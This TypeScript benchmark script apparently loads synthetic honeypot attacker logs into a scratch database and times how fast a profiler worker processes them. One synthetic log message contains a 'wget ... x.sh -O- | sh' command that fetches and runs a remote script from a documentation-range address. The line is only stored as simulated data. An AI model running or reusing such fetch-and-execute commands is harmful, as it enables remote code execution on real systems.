// Benchmark of the profiler bundle with real parts: N synthetic `logs` rows (default 100,000) are
// written to a scratch database, then the profiler bundle is started as a standalone process and
// timed until its cursor reaches the last row (rows/s), sampling its RSS; idle RSS is measured on an
// empty database before, and again after settling.
// Run: npx tsx --conditions=@decnet/source tools/bench/profiler.ts [--json] [--rows N] [--ips N] [--batch N]
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { cpus, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { EVENTS as CATALOGUE, silentLogger } from '@decnet/core';
import { testConfig } from '@decnet/core/testing';
import { attackers, getState, insertLogRows, logs, maxLogId, migrate, openDatabase, state, type Database, type NewLogRow } from '@decnet/db';
import { analyzeTables, deleteRows, tableRows } from '@decnet/db/testing';
import { createScratchDatabase } from '@decnet/testing/postgres';
import { WORKSPACE_ROOT, argValue, asJson } from './lib/args.js';
import { memoryOf, mib, rng } from './lib/measure.js';
import { sleep, spawnWorker, stopWorker } from './lib/worker-process.js';

/** Rows folded by default (issue 6 asks for 100,000). */
const DEFAULT_ROWS = 100_000;
/** Distinct attacker addresses in the synthetic data. */
const DEFAULT_IPS = 2_000;
/** Rows per INSERT while loading the synthetic data. */
const INSERT_CHUNK = 10_000;
/** How often progress and memory are sampled. */
const SAMPLE_MS = 250;
/** Time a worker is left alone before its idle RSS is read. */
const SETTLE_MS = 5_000;
/** Give up when nothing moved for this long. */
const STALL_MS = 60_000;

const ROOT = WORKSPACE_ROOT;
const ROWS = Number(argValue('--rows') ?? DEFAULT_ROWS);
const IPS = Number(argValue('--ips') ?? DEFAULT_IPS);
const BATCH = argValue('--batch');

const log = (text: string): void => {
  if (!asJson) process.stderr.write(`${text}\n`);
};

const USER_AGENTS = ['Mozilla/5.0 zgrab/0.x', 'curl/8.4.0', 'python-requests/2.31.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'sqlmap/1.7.2#stable'];
const SERVICES = ['ssh', 'http', 'ftp', 'smtp', 'redis'];

/** Writes `rows` synthetic rows: a fifth from 20 heavy hitters, the rest spread over `ips` addresses. */
async function loadRows(database: Database, rows: number, ips: number): Promise<number> {
  const random = rng(42);
  const t0 = Date.parse('2026-05-01T00:00:00Z');
  let written = 0;
  for (let start = 0; start < rows; start += INSERT_CHUNK) {
    const n = Math.min(INSERT_CHUNK, rows - start);
    const chunk: NewLogRow[] = [];
    for (let k = 0; k < n; k++) {
      const i = start + k;
      const heavy = random() < 0.2;
      const ipIndex = heavy ? Math.floor(random() * 20) : 20 + Math.floor(random() * Math.max(1, ips - 20));
      const ip = `198.${18 + (ipIndex >> 16)}.${(ipIndex >> 8) & 255}.${ipIndex & 255}`;
      // Mostly increasing time, with some events arriving a little out of order.
      const ms = t0 + i * 900 + Math.floor(random() * 20_000) - (random() < 0.05 ? 60_000 : 0);
      const roll = random();
      const service = SERVICES[ipIndex % SERVICES.length] as string;
      let type = 'auth_attempt';
      let fields: Record<string, string> = { username: 'root' };
      let msg: string | null = null;
      if (roll < 0.25) {
        type = 'request';
        fields = { method: 'GET', path: `/p${i % 97}`, headers: JSON.stringify({ 'User-Agent': USER_AGENTS[i % USER_AGENTS.length] }) };
      } else if (roll < 0.35) {
        type = 'command';
        msg = `CMD uid=0 user=root src=${ip} pwd=/root cmd=wget http://203.0.113.${i % 250}/x.sh -O- | sh`;
        fields = {};
      } else if (roll < 0.5) {
        type = 'connection';
        fields = { src_port: String(1024 + (i % 60_000)) };
      }
      chunk.push({
        timestamp: new Date(ms),
        decky: `decky-0${(ipIndex + Math.floor(random() * 2)) % 8}`,
        service: roll < 0.25 ? 'http' : service,
        event_type: type,
        attacker_ip: ip,
        raw_line: 'synthetic',
        fields,
        msg,
        event_id: `bench-${i}`,
        source_worker: null,
      });
    }
    await insertLogRows(database.pool, chunk);
    written += n;
  }
  await analyzeTables(database, [logs]);
  return written;
}

async function cursorOf(database: Database): Promise<number> {
  const cursor = (await getState(database.db, 'attacker_worker_cursor')) as { last_log_id?: number } | undefined;
  return Number(cursor?.last_log_id ?? 0);
}

interface ProfilerResult {
  rows: number;
  batchSize: string;
  attackers: number;
  eventsCounted: number;
  secondsFromSpawn: number;
  secondsFolding: number;
  rowsPerSecond: number;
  rowsPerSecondFromSpawn: number;
  idleRssMiB: number;
  loadedRssMaxMiB: number;
  loadedPssMaxMiB: number;
  idleAfterLoadRssMiB: number;
}

async function benchProfiler(url: string, database: Database, home: string): Promise<ProfilerResult> {
  const env: Record<string, string> = {
    DECNET_BUS: 'memory',
    DATABASE_URL: url,
    DECNET_HOME: home,
    DECNET_LOG_LEVEL: 'warn',
    DECNET_INSTANCE_ID: 'bench-profiler',
    ...(BATCH ? { DECNET_PROFILER_BATCH_SIZE: BATCH } : {}),
  };
  log('profiler: idle RSS on an empty database...');
  const idle = spawnWorker('dist/workers/profiler/main.js', env);
  await sleep(SETTLE_MS);
  const idleRss = memoryOf(idle.pid as number).rss;
  await stopWorker(idle);

  log(`profiler: writing ${ROWS} synthetic rows...`);
  const rows = await loadRows(database, ROWS, IPS);
  const maxId = await maxLogId(database.pool);
  await deleteRows(database, state, { key: 'attacker_worker_cursor' });
  log('profiler: folding...');
  const started = performance.now();
  const child = spawnWorker('dist/workers/profiler/main.js', env);
  let rssMax = 0;
  let pssMax = 0;
  let firstAt = 0;
  let firstCursor = 0;
  let last = -1;
  let lastChange = performance.now();
  for (;;) {
    await sleep(SAMPLE_MS);
    const m = memoryOf(child.pid as number);
    rssMax = Math.max(rssMax, m.rss);
    pssMax = Math.max(pssMax, m.pss);
    const cursor = await cursorOf(database);
    if (cursor > 0 && firstAt === 0) {
      firstAt = performance.now();
      firstCursor = cursor;
    }
    if (cursor !== last) lastChange = performance.now();
    last = cursor;
    if (cursor >= maxId) break;
    if (performance.now() - lastChange > STALL_MS) throw new Error(`profiler stalled at ${cursor}/${maxId}`);
    if (child.exitCode !== null) throw new Error('profiler exited');
  }
  const done = performance.now();
  await sleep(SETTLE_MS);
  const after = memoryOf(child.pid as number).rss;
  await stopWorker(child);
  const folded = await tableRows(database, attackers);
  const totals = { n: folded.length, e: folded.reduce((sum, a) => sum + a.event_count, 0) };
  const foldingS = (done - firstAt) / 1000;
  return {
    rows,
    batchSize: BATCH ?? 'default (2000)',
    attackers: Number(totals?.n),
    eventsCounted: Number(totals?.e),
    secondsFromSpawn: Math.round((done - started) / 100) / 10,
    secondsFolding: Math.round(foldingS * 10) / 10,
    // The first sample already includes some rows: count only what was folded after it.
    rowsPerSecond: Math.round((rows - firstCursor) / Math.max(0.001, foldingS)),
    rowsPerSecondFromSpawn: Math.round(rows / ((done - started) / 1000)),
    idleRssMiB: mib(idleRss),
    loadedRssMaxMiB: mib(rssMax),
    loadedPssMaxMiB: mib(pssMax),
    idleAfterLoadRssMiB: mib(after),
  };
}

async function main(): Promise<void> {
  log('bundling worker-profiler...');
  execFileSync(process.execPath, ['tools/bundle/bundle.mjs', '--quiet', 'worker-profiler'], { cwd: ROOT, stdio: 'inherit' });
  const scratch = await createScratchDatabase();
  const database = await openDatabase(testConfig({ DATABASE_URL: scratch.url }), silentLogger, { retry: false, poolMax: 2 });
  const home = mkdtempSync(join(tmpdir(), 'bench-profiler-'));
  let profiler: ProfilerResult;
  try {
    await migrate(database.db, silentLogger);
    profiler = await benchProfiler(scratch.url, database, home);
  } finally {
    await database.close();
    await scratch.drop();
    rmSync(home, { recursive: true, force: true });
  }
  const machine = { cpus: cpus().length, model: cpus()[0]?.model ?? '?', loadavg1: Math.round((loadavg()[0] ?? 0) * 100) / 100 };
  if (asJson) {
    process.stdout.write(`${JSON.stringify({ machine, profiler }, null, 2)}\n`);
    return;
  }
  process.stdout.write(`machine: ${machine.cpus} × ${machine.model}, load ${machine.loadavg1}\n`);
  const p = profiler;
  process.stdout.write(
    `profiler: ${p.rows} rows → ${p.attackers} attackers (${p.eventsCounted} events counted) in ${p.secondsFolding} s folding ` +
      `(${p.secondsFromSpawn} s from spawn): ${p.rowsPerSecond} rows/s (${p.rowsPerSecondFromSpawn} from spawn), batch ${p.batchSize}\n`,
  );
  process.stdout.write(`profiler RSS: idle ${p.idleRssMiB} MiB, loaded max ${p.loadedRssMaxMiB} MiB (PSS ${p.loadedPssMaxMiB}), idle after load ${p.idleAfterLoadRssMiB} MiB\n`);
}

await main();
